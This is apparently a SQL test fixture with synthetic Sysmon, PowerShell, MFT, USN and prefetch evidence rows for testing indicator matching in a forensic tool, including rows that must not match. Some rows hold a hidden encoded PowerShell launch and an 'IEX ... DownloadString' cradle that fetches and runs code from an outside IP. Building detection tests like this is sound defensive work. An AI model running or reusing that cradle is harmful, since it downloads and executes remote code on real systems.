-- ioc-evidence.sql - evidence rows for the indicator-matching tests, in
-- the shape the parsers write them (doc/schema.md): the reference story
-- (updater -> 5.39.218.205, payload, encoded PowerShell cradle to
-- 176.53.118.131, deleted payload with known hashes) and noise that must
-- not match (203.0.113.10, an IP with the indicator as a prefix, a domain
-- that only ends like an indicator).
INSERT INTO source(id, kind, path, status, tool_version, added_at)
	VALUES (1, 'evtx', 'Sysmon.evtx', 'ok', 'test', 0),
	       (2, 'image', 'disk.raw', 'ok', 'test', 0);
INSERT INTO record(id, source_id, type, locator, summary) VALUES
	(1, 1, 'evtx', 'record 1', 'Sysmon 3 QEUpdate.exe -> 5.39.218.205:80'),
	(2, 1, 'evtx', 'record 2', 'Sysmon 1 powershell.exe -enc'),
	(3, 1, 'evtx', 'record 3', 'PowerShell 4104 script block'),
	(4, 1, 'evtx', 'record 4', 'Sysmon 3 legitimate update'),
	(5, 1, 'evtx', 'record 5', 'Sysmon 22 DNS query'),
	(6, 1, 'evtx', 'record 6', 'Sysmon 1 payload start with hashes'),
	(7, 1, 'evtx', 'record 7', 'Security 5156 with address in data only'),
	(8, 1, 'evtx', 'record 8', 'noise: prefix IP, lookalike domain'),
	(9, 1, 'evtx', 'record 9', 'PowerShell 4103 payload over two lines'),
	(10, 2, 'file', 'MFT 1234-3', 'deleted payload'),
	(11, 2, 'file', 'MFT 1240-1', 'other file'),
	(12, 2, 'usn', 'USN 0x1000', 'FILE_DELETE qeupdate_helper.exe'),
	(13, 2, 'prefetch', 'QEUPDATE_HELPER.EXE-1A2B3C4D.pf', 'prefetch');
INSERT INTO evtx(record_id, record_number, event_id, channel, data, image,
		dst_ip, dst_port, command_line, script_text, dns_query, hashes,
		target_file, url) VALUES
	(1, 1, 3, 'Microsoft-Windows-Sysmon/Operational',
	 '{"DestinationIp":"5.39.218.205","DestinationPort":"80","Image":"C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe"}',
	 'C:\Program Files (x86)\QuillEdit\QEUpdate.exe', '5.39.218.205', 80,
	 NULL, NULL, NULL, NULL, NULL, NULL),
	(2, 2, 1, 'Microsoft-Windows-Sysmon/Operational',
	 '{"CommandLine":"powershell -NoP -NonI -W Hidden -Enc SQBFAFgA"}',
	 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe', NULL, NULL,
	 'powershell -NoP -NonI -W Hidden -Enc SQBFAFgA', NULL, NULL, NULL, NULL, NULL),
	(3, 3, 4104, 'Microsoft-Windows-PowerShell/Operational',
	 '{"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString(''HTTP://176.53.118.131:80/logo.png'')"}',
	 NULL, NULL, NULL, NULL,
	 'IEX (New-Object Net.WebClient).DownloadString(''HTTP://176.53.118.131:80/logo.png'')',
	 NULL, NULL, NULL, NULL),
	(4, 4, 3, 'Microsoft-Windows-Sysmon/Operational',
	 '{"DestinationIp":"203.0.113.10"}', 'C:\Program Files (x86)\QuillEdit\QEUpdate.exe',
	 '203.0.113.10', 80, NULL, NULL, NULL, NULL, NULL, NULL),
	(5, 5, 22, 'Microsoft-Windows-Sysmon/Operational',
	 '{"QueryName":"cdn.Evil-Updates.example.com","QueryResults":"::ffff:5.39.218.205;"}',
	 NULL, NULL, NULL, NULL, NULL, 'cdn.Evil-Updates.example.com', NULL, NULL, NULL),
	(6, 6, 1, 'Microsoft-Windows-Sysmon/Operational', '{}',
	 'C:\Users\jdoe\AppData\Local\Temp\QEUpd\qeupdate_helper.exe', NULL, NULL,
	 NULL, NULL, NULL,
	 'SHA1=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB',
	 NULL, NULL),
	(7, 7, 5156, 'Security',
	 '{"Application":"\\device\\harddiskvolume2\\users\\jdoe\\qeupdate_helper.exe","DestAddress":"176.53.118.131","DestPort":"80"}',
	 NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
	(8, 8, 1, 'Microsoft-Windows-Sysmon/Operational',
	 '{"CommandLine":"ping 15.39.218.205 & ping 5.39.218.2050 & nslookup notevil-updates.example.com"}',
	 NULL, NULL, NULL,
	 'ping 15.39.218.205 & ping 5.39.218.2050 & nslookup notevil-updates.example.com http://5.39.218.206/logo.png',
	 NULL, NULL, NULL, NULL, NULL),
	(9, 9, 4103, 'Microsoft-Windows-PowerShell/Operational',
	 '{"Payload":"CommandInvocation(Invoke-WebRequest)\nevil-updates.example.com"}',
	 NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL);
INSERT INTO file(record_id, path, name, allocated, md5, sha1, sha256, content) VALUES
	(10, '/Users/jdoe/AppData/Local/Temp/QEUpd/qeupdate_helper.exe',
	 'qeupdate_helper.exe', 0, '0123456789abcdef0123456789abcdef',
	 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
	 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb', 'recovered'),
	(11, '/Windows/notepad.exe', 'notepad.exe', 1,
	 'ffffffffffffffffffffffffffffffff', NULL, NULL, 'allocated');
INSERT INTO usn(record_id, usn, major, reason, reasons, name) VALUES
	(12, 4096, 2, 512, 'FILE_DELETE', 'QEUPDATE_HELPER.EXE');
INSERT INTO prefetch(record_id, executable, files) VALUES
	(13, 'QEUPDATE_HELPER.EXE', '["\\VOLUME{01}\\USERS\\JDOE\\APPDATA\\LOCAL\\TEMP\\QEUPD\\QEUPDATE_HELPER.EXE","\\VOLUME{01}\\WINDOWS\\SYSTEM32\\NTDLL.DLL"]');
INSERT INTO script_block(source_id, script_block_id, parts_total, parts_seen,
		first_record_id, text) VALUES
	(1, '{0000-1111}', 1, 1, 3,
	 'IEX (New-Object Net.WebClient).DownloadString(''http://176.53.118.131/logo.png'')');
